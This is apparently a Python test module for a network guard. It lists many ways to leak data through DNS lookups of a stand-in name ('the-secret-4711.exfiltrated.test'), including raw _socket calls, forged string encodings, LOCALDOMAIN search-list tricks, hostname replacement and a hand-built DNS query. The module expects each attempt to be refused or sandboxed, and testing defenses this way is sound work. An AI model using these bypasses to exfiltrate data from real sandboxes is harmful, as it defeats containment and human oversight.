"""DNS exfiltration: a lookup that would carry data in the name."""

from __future__ import annotations

import os
import socket

from tests.guard.attacks import namespaces, peer_names  # noqa: F401 - loaded here, used in the attacked process
from tests.guard.attacks.kit import SANDBOX, Ground
from tests.guard.attacks.network import IN_TOWN, LIMIT, NETWORK, REFUSED, network_attack, network_attacks_of, peers

NAME = "the-secret-4711.exfiltrated.test"
OUTSIDE = "198.51.100.7"


def rules(ground: Ground) -> list[tuple[str, str]]:
    """One name may be read from."""
    return [("receive", f"http://api.test:{peers(ground).town}/allowed")]


def quietly(act):
    """There is no such name: what counts is whether the name server was asked."""

    def play(ground: Ground) -> None:
        try:
            act()
        except OSError as error:
            if type(error) not in (socket.gaierror, socket.herror, OSError):
                raise

    return play


class Text(str):
    """A permitted name that turns into another one when it is encoded."""

    __slots__ = ()

    def encode(self, *_: object) -> bytes:
        return NAME.encode()


def raw(name: str, *arguments: object):
    def act() -> None:
        import _socket

        getattr(_socket, name)(*arguments)

    return act


def on_socket(method: str, *arguments: object, kind: int = socket.SOCK_STREAM):
    def act() -> None:
        with socket.socket(socket.AF_INET, kind) as sock:
            sock.settimeout(LIMIT)
            getattr(sock, method)(*arguments)

    return act


def urlopen() -> None:
    import urllib.request

    urllib.request.urlopen(f"http://{NAME}/", timeout=LIMIT)


def http_client() -> None:
    import http.client

    http.client.HTTPConnection(NAME, timeout=LIMIT).request("GET", "/")


def mail() -> None:
    import smtplib

    smtplib.SMTP(NAME, timeout=LIMIT)


network_attacks_of(
    {
        name: quietly(act)
        for name, act in {
            "getaddrinfo": lambda: socket.getaddrinfo(NAME, 80),
            "getaddrinfo_bytes": lambda: socket.getaddrinfo(NAME.encode(), 80),
            "getaddrinfo_C": raw("getaddrinfo", NAME, 80),
            "getaddrinfo_keywords": lambda: socket.getaddrinfo(
                host=NAME, port="http", family=2, type=1, proto=6, flags=2
            ),
            "gethostbyname": lambda: socket.gethostbyname(NAME),
            "gethostbyname_ex": lambda: socket.gethostbyname_ex(NAME),
            "gethostbyname_C": raw("gethostbyname", NAME),
            "gethostbyaddr": lambda: socket.gethostbyaddr(NAME),
            "gethostbyaddr_reverse": lambda: socket.gethostbyaddr(OUTSIDE),
            "getnameinfo": lambda: socket.getnameinfo((OUTSIDE, 80), socket.NI_NAMEREQD),
            "getnameinfo_six": lambda: socket.getnameinfo(("2001:db8::4711", 80), 0),
            "connect": on_socket("connect", (NAME, 80)),
            "connect_ex": on_socket("connect_ex", (NAME, 80)),
            "connect_bytes": on_socket("connect", (NAME.encode(), 80)),
            "connect_bytearray": on_socket("connect", (bytearray(NAME.encode()), 80)),
            "connect_forged": on_socket("connect", (Text("localhost"), 80)),
            "bind": on_socket("bind", (NAME, 0)),
            "sendto": on_socket("sendto", b"x", (NAME, 80), kind=socket.SOCK_DGRAM),
            "sendmsg": on_socket("sendmsg", [b"x"], [], 0, (NAME, 80), kind=socket.SOCK_DGRAM),
            "create_connection": lambda: socket.create_connection((NAME, 80), LIMIT),
            "create_server": lambda: socket.create_server((NAME, 0)),
            "urlopen": urlopen,
            "http_client": http_client,
            "smtplib": mail,
            "international": lambda: socket.getaddrinfo("geheim-4711.büro.test", 80),
            "search_list": lambda: socket.getaddrinfo("the-secret-4711", 80),
            "below_localhost": lambda: socket.getaddrinfo("the-secret-4711.localhost", 80),
            "below_a_permitted_name": lambda: socket.getaddrinfo("the-secret-4711.api.test", 80),
            "below_the_own_name": lambda: socket.getaddrinfo("the-secret-4711.attacked", 80),
            "trailing_dot": lambda: socket.getaddrinfo(f"{NAME}.", 80),
            "other_letters": lambda: socket.getaddrinfo("THE-SECRET-4711.Exfiltrated.test", 80),
            "long_labels": lambda: socket.getaddrinfo(".".join(["x" * 60] * 3) + ".exfiltrated.test", 80),
        }.items()
    },
    "a name that carries data is looked up: {}",
    rules=rules,
    expect=REFUSED,
    group="lookup_",
    **IN_TOWN,
)


network_attacks_of(
    {
        "getfqdn": quietly(lambda: socket.getfqdn(NAME)),
        "getaddrinfo_forged": quietly(lambda: socket.getaddrinfo(Text("localhost"), 80)),
    },
    "a name that carries data is looked up, without an error if it is not: {}",
    rules=rules,
    expect=REFUSED.quietly,
    group="lookup_",
    **IN_TOWN,
)


def by_loop(coroutine):
    async def act(ground: Ground) -> None:
        try:
            await coroutine()
        except (socket.gaierror, socket.herror):
            pass

    return act


async def loop_lookup() -> None:
    import asyncio

    await asyncio.get_running_loop().getaddrinfo(NAME, 80)


async def loop_reverse() -> None:
    import asyncio

    await asyncio.get_running_loop().getnameinfo((OUTSIDE, 80))


async def loop_streams() -> None:
    import asyncio

    await asyncio.open_connection(NAME, 80)


async def loop_datagrams() -> None:
    import asyncio

    loop = asyncio.get_running_loop()
    await loop.create_datagram_endpoint(asyncio.DatagramProtocol, remote_addr=(NAME, 80))


async def loop_server() -> None:
    import asyncio

    await asyncio.start_server(lambda *_: None, NAME, 0)


LOOPS = {
    "getaddrinfo": loop_lookup,
    "getnameinfo": loop_reverse,
    "open_connection": loop_streams,
    "datagrams": loop_datagrams,
    "server": loop_server,
}
network_attacks_of(
    {name: by_loop(act) for name, act in LOOPS.items()},
    "a name that carries data is looked up over the host's loop: {}",
    rules=rules,
    expect=REFUSED,
    group="loop_",
    **IN_TOWN,
)


def on_uvloop(act):
    def play(ground: Ground) -> None:
        import asyncio

        import uvloop

        with asyncio.Runner(loop_factory=uvloop.new_event_loop) as runner:
            runner.run(by_loop(act)(ground))

    return play


network_attacks_of(
    {name: on_uvloop(act) for name, act in LOOPS.items() if name != "server"},
    "a name that carries data is looked up over uvloop: {}",
    rules=rules,
    expect=REFUSED,
    group="uvloop_",
    **(IN_TOWN | {"needs": (*IN_TOWN["needs"], "uvloop")}),
)


@network_attack(
    "the machine is renamed, because its own name may always be looked up", rules=rules, expect=SANDBOX, **IN_TOWN
)
def renamed(ground: Ground) -> None:
    socket.sethostname(NAME)
    quietly(lambda: socket.getaddrinfo(socket.gethostname(), 80))(ground)


@network_attack("the function that tells the machine's own name is replaced", rules=rules, expect=REFUSED, **IN_TOWN)
def renamed_function(ground: Ground) -> None:
    import _socket

    socket.gethostname = _socket.gethostname = os.uname = lambda: NAME
    quietly(lambda: socket.getaddrinfo(NAME, 80))(ground)


@network_attack(
    "the search list of the resolver is set, and the machine's own name looked up",
    rules=rules,
    expect=SANDBOX,
    **IN_TOWN,
)
def search_list(ground: Ground) -> None:
    os.environ["LOCALDOMAIN"] = NAME
    quietly(lambda: socket.getaddrinfo(socket.gethostname(), 80))(ground)


@network_attack(
    "the search list is set by the C function below the environment", rules=rules, expect=SANDBOX, **IN_TOWN
)
def search_list_putenv(ground: Ground) -> None:
    import posix

    posix.putenv(b"LOCALDOMAIN", NAME.encode())
    quietly(lambda: socket.getaddrinfo(socket.gethostname(), 80))(ground)


def question(ground: Ground) -> bytes:
    labels = b"".join(bytes([len(label)]) + label.encode() for label in NAME.split("."))
    return b"\x47\x11\x01\0\0\1\0\0\0\0\0\0" + labels + b"\0\0\1\0\1"


def raw_query(ground: Ground) -> None:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question(ground), ("127.0.0.53", 53))


network_attack(
    "a query is written by hand and sent to the machine's name server",
    rules=rules,
    expect=NETWORK,
    name="raw_query",
    **IN_TOWN,
)(raw_query)
